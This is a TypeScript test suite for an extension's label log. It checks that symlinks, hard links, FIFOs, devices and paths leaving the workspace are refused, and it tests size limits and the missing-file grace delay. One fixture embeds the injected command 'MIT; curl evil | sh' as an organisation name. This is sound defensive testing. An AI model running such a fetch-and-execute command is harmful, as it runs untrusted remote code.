/**
 * Issue #9, items 1, 2 and 8: the label log is never followed through a symbolic link (at the log
 * or at a folder on its path), must be a regular file (no FIFO, device or folder), stays inside
 * the workspace folder, is refused over 1 GB before a byte is read and warned about over 100 MB;
 * a log that vanishes keeps its labels for a short delay. Files live in temporary folders; the
 * big logs are sparse (ftruncate), so they cost no disk.
 */
import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { serializeEvent } from '../../src/core/labels/event';
import { appendEvents, LabelLogReader, MAX_LINE_BYTES, readLabelLog } from '../../src/node/labels/labelLog';
import { isInsideFolder, LABEL_LOG_MAX_BYTES, LABEL_LOG_WARN_BYTES, LabelLogRefusedError, sizeVerdict } from '../../src/node/labels/logPlace';
import { MissingLogGrace } from '../../src/host/missingLogGrace';
import { ev, makeTemp, org, removeTemp } from './fixtures/labels/helpers';

const line = (i: number) => `${serializeEvent(ev('ada', org(`Org ${i}`, 'Academia'), i, `c${i}`))}\n`;
const refused = (reason: string, pattern: RegExp) => (error: unknown) => error instanceof LabelLogRefusedError && error.reason === reason && pattern.test(error.message);

describe('labels: the log stays a regular file inside the workspace (issue #9)', function () {
  let dir: string;
  let ws: string;
  let log: string;
  let outside: string;
  beforeEach(() => {
    dir = makeTemp();
    ws = path.join(dir, 'ws');
    fs.mkdirSync(path.join(ws, '.compute-divide'), { recursive: true });
    log = path.join(ws, '.compute-divide', 'labels.jsonl');
    outside = path.join(dir, 'home');
    fs.mkdirSync(outside);
    fs.writeFileSync(path.join(outside, '.bashrc'), 'export PATH=/usr/bin\n');
  });
  afterEach(() => removeTemp(dir));

  it('a symlinked log is refused for reading and for appending, and the file it points at is untouched', async function () {
    const target = path.join(outside, '.bashrc');
    fs.symlinkSync(target, log);
    const message = new RegExp(`^Refusing the label log ${log.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}: it is a symbolic link\\. Links are never followed`);
    for (const root of [ws, undefined]) {
      await assert.rejects(readLabelLog(log, { root }), refused('symlink', message));
      await assert.rejects(appendEvents(log, [ev('ada', org('MIT', 'Academia'), 1)], { root }), refused('symlink', message));
    }
    assert.equal(fs.readFileSync(target, 'utf8'), 'export PATH=/usr/bin\n');
  });

  it('a log that is a hard link to a file elsewhere is read but never appended to; the other file is untouched', async function () {
    const target = path.join(outside, '.bashrc');
    fs.linkSync(target, log);
    for (const root of [ws, undefined]) {
      await assert.rejects(appendEvents(log, [ev('ada', org('MIT; curl evil | sh', 'Academia'), 1)], { root }), refused('hard-link', /it has 2 hard links.*another name/));
    }
    assert.equal(fs.readFileSync(target, 'utf8'), 'export PATH=/usr/bin\n');
    // Reading is allowed (and finds no events in a shell script: one invalid line).
    const read = await readLabelLog(log, { root: ws });
    assert.equal(read.events.length, 0);
    // After copying it to a file of its own, appends work.
    fs.copyFileSync(log, `${log}.tmp`);
    fs.renameSync(`${log}.tmp`, log);
    await appendEvents(log, [ev('ada', org('MIT', 'Academia'), 1, 'h1')], { root: ws });
    assert.equal(fs.readFileSync(target, 'utf8'), 'export PATH=/usr/bin\n');
    assert.match(fs.readFileSync(log, 'utf8'), /"h1"/);
  });

  it('a dangling symlink at the log is refused too (an append would otherwise create its target)', async function () {
    const target = path.join(outside, 'created.jsonl');
    fs.symlinkSync(target, log);
    await assert.rejects(appendEvents(log, [ev('ada', org('MIT', 'Academia'), 1)], { root: ws }), refused('symlink', /it is a symbolic link/));
    await assert.rejects(appendEvents(log, [ev('ada', org('MIT', 'Academia'), 1)]), refused('symlink', /it is a symbolic link/));
    assert.equal(fs.existsSync(target), false);
  });

  it('a symlinked folder on the path is refused, named in the message; nothing is created where it points', async function () {
    fs.rmSync(path.join(ws, '.compute-divide'), { recursive: true });
    fs.symlinkSync(outside, path.join(ws, '.compute-divide'));
    const folder = path.join(ws, '.compute-divide');
    await assert.rejects(readLabelLog(log, { root: ws }), refused('symlink', new RegExp(`the folder ${folder.replace(/[.]/g, '\\.')} on its path is a symbolic link`)));
    await assert.rejects(appendEvents(log, [ev('ada', org('MIT', 'Academia'), 1)], { root: ws }), refused('symlink', /on its path is a symbolic link/));
    assert.deepEqual(fs.readdirSync(outside), ['.bashrc']);
  });

  it('a workspace opened through a link is fine: only links below the workspace folder are refused', async function () {
    const linkedWs = path.join(dir, 'ws-link');
    fs.symlinkSync(ws, linkedWs);
    const viaLink = path.join(linkedWs, '.compute-divide', 'labels.jsonl');
    await appendEvents(viaLink, [ev('ada', org('MIT', 'Academia'), 1, 'x1')], { root: linkedWs });
    assert.deepEqual((await readLabelLog(viaLink, { root: linkedWs })).events.map((e) => e.event.id), ['x1']);
  });

  it('creates missing folders inside the workspace one by one, and refuses a path that leaves it', async function () {
    const deep = path.join(ws, 'a', 'b', 'labels.jsonl');
    await appendEvents(deep, [ev('ada', org('MIT', 'Academia'), 1, 'd1')], { root: ws });
    assert.deepEqual((await readLabelLog(deep, { root: ws })).events.map((e) => e.event.id), ['d1']);
    const escape = path.join(ws, '..', 'home', 'labels.jsonl');
    await assert.rejects(appendEvents(escape, [ev('ada', org('MIT', 'Academia'), 1)], { root: ws }), refused('outside', /outside the workspace folder/));
    assert.equal(fs.existsSync(path.join(outside, 'labels.jsonl')), false);
    assert.equal(isInsideFolder('/w/ws', '/w/ws/.compute-divide/labels.jsonl'), true);
    assert.equal(isInsideFolder('/w/ws', '/w/ws2/labels.jsonl'), false);
    assert.equal(isInsideFolder('/w/ws', '/w/ws/../x'), false);
    assert.equal(isInsideFolder('/w/ws', '/w/ws/..labels'), true);
  });

  it('/dev/zero (named directly, or through a link), a FIFO and a folder are refused without reading or blocking', async function () {
    await assert.rejects(readLabelLog('/dev/zero'), refused('not-regular', /it is a character device, not a regular file\.$/));
    await assert.rejects(appendEvents('/dev/zero', [ev('ada', org('MIT', 'Academia'), 1)]), refused('not-regular', /character device/));
    fs.symlinkSync('/dev/zero', log);
    await assert.rejects(readLabelLog(log, { root: ws }), refused('symlink', /it is a symbolic link/));
    fs.unlinkSync(log);
    execFileSync('mkfifo', [log]);
    // Opening a FIFO for reading would block until a writer came; it must be refused at once.
    await assert.rejects(readLabelLog(log, { root: ws }), refused('not-regular', /it is a FIFO \(named pipe\)/));
    await assert.rejects(appendEvents(log, [ev('ada', org('MIT', 'Academia'), 1)], { root: ws }), refused('not-regular', /FIFO/));
    fs.unlinkSync(log);
    fs.mkdirSync(log);
    await assert.rejects(readLabelLog(log, { root: ws }), refused('not-regular', /it is a folder/));
  });
});

describe('labels: size cap and streaming read (issue #9)', function () {
  this.timeout(60_000);
  let dir: string;
  beforeEach(() => (dir = makeTemp()));
  afterEach(() => removeTemp(dir));

  it('the limits are 100 MB and 1 GB (decimal), as the setting says', function () {
    assert.equal(LABEL_LOG_WARN_BYTES, 100_000_000);
    assert.equal(LABEL_LOG_MAX_BYTES, 1_000_000_000);
    assert.deepEqual([sizeVerdict(100_000_000), sizeVerdict(100_000_001), sizeVerdict(1_000_000_000), sizeVerdict(1_000_000_001)], ['ok', 'large', 'large', 'too-large']);
    const pkg = JSON.parse(fs.readFileSync(path.join(__dirname, '..', '..', 'package.json'), 'utf8')) as { contributes: { configuration: { properties: Record<string, { markdownDescription: string }> } } };
    assert.match(pkg.contributes.configuration.properties['computeDivide.labelLog'].markdownDescription, /over 100 MB.*over 1 GB/);
  });

  it('a 1 GiB (sparse) log is refused in under a second, before a byte is read', async function () {
    const log = path.join(dir, 'labels.jsonl');
    fs.writeFileSync(log, line(1));
    fs.truncateSync(log, 1 << 30);
    const start = process.hrtime.bigint();
    await assert.rejects(readLabelLog(log), refused('too-large', /it is 1,073,741,824 bytes, over the 1 GB limit \(1,000,000,000 bytes\)/));
    const ms = Number(process.hrtime.bigint() - start) / 1e6;
    assert.ok(ms < 1000, `took ${ms} ms`);
    // The incremental reader refuses it too, and forgets what it had read.
    const reader = new LabelLogReader(log);
    await assert.rejects(reader.read(), refused('too-large', /1 GB/));
  });

  it('a 150 MB log is read with a large-log warning; its trailing 150 MB of NULs, one line, is skipped unheld', async function () {
    const log = path.join(dir, 'labels.jsonl');
    const head = line(1) + line(2);
    fs.writeFileSync(log, head);
    fs.truncateSync(log, 150_000_000);
    const before = process.memoryUsage().rss;
    const read = await readLabelLog(log);
    const grew = process.memoryUsage().rss - before;
    assert.deepEqual(read.events.map((e) => [e.event.id, e.line]), [['c1', 1], ['c2', 2]]);
    assert.deepEqual(read.diagnostics.map((d) => [d.kind, d.line, d.kept]), [['large-log', 1, true], ['line-too-long', 3, undefined]]);
    assert.equal(read.diagnostics[0].message, 'The label log is 150 MB, over 100 MB: reading it takes time and memory, and logs over 1 GB are refused. Is this the right file?');
    assert.match(read.diagnostics[1].message, new RegExp(`^A line of ${(150_000_000 - Buffer.byteLength(head)).toLocaleString('en-US')} bytes, over the 16,777,216-byte limit`));
    assert.ok(grew < 100_000_000, `rss grew by ${grew} bytes for a 150 MB file`);
  });

  it('a long line between events is skipped with its number, the events around it count, and re-reads stay incremental', async function () {
    const log = path.join(dir, 'labels.jsonl');
    fs.writeFileSync(log, `${line(1)}${'x'.repeat(MAX_LINE_BYTES + 10)}\n${line(3)}`);
    const reader = new LabelLogReader(log);
    const first = await reader.read();
    assert.deepEqual(first.events.map((e) => [e.event.id, e.line]), [['c1', 1], ['c3', 3]]);
    assert.deepEqual(first.diagnostics.map((d) => [d.kind, d.line, d.raw.length]), [['line-too-long', 2, 200]]);
    fs.appendFileSync(log, line(4));
    const second = await reader.read();
    assert.equal(reader.lastParsedBytes, Buffer.byteLength(line(4)));
    assert.deepEqual(second.events.map((e) => [e.event.id, e.line]), [['c1', 1], ['c3', 3], ['c4', 4]]);
    assert.deepEqual(second.diagnostics.map((d) => [d.kind, d.line]), [['line-too-long', 2]]);
  });
});

describe('labels: a vanished log keeps its labels for a short delay (MissingLogGrace)', function () {
  /** Fake timers: `tick(ms)` runs what is due. */
  function fakeTimers() {
    let now = 0;
    const due: { at: number; f: () => void; id: number }[] = [];
    let next = 0;
    return {
      timers: {
        setTimeout: (f: () => void, ms: number) => {
          due.push({ at: now + ms, f, id: ++next });
          return next;
        },
        clearTimeout: (id: unknown) => {
          const i = due.findIndex((d) => d.id === id);
          if (i !== -1) due.splice(i, 1);
        },
      },
      tick(ms: number) {
        now += ms;
        for (const d of due.filter((x) => x.at <= now)) {
          due.splice(due.indexOf(d), 1);
          d.f();
        }
      },
      pending: () => due.length,
    };
  }

  it('a file recreated within 500 ms keeps its labels without a flicker; one still absent after 500 ms drops them', function () {
    const clock = fakeTimers();
    let rechecks = 0;
    const grace = new MissingLogGrace(() => rechecks++, 500, clock.timers);
    // Deleted (or its folder deleted): hold, and schedule one re-check.
    assert.equal(grace.shouldApply(false, true), false);
    assert.equal(grace.shouldApply(false, true), false, 'a second event in the delay holds too');
    assert.equal(clock.pending(), 1);
    clock.tick(300);
    // Recreated within the delay: applied, the re-check is cancelled.
    assert.equal(grace.shouldApply(true, true), true);
    clock.tick(1000);
    assert.equal(rechecks, 0);
    // Deleted for good: held until the delay, then the re-check applies the empty read.
    assert.equal(grace.shouldApply(false, true), false);
    clock.tick(499);
    assert.equal(rechecks, 0);
    clock.tick(1);
    assert.equal(rechecks, 1);
    assert.equal(grace.shouldApply(false, true), true);
    // With no labels to drop, a missing log is applied at once.
    assert.equal(grace.shouldApply(false, false), true);
    assert.equal(clock.pending(), 0);
  });
});
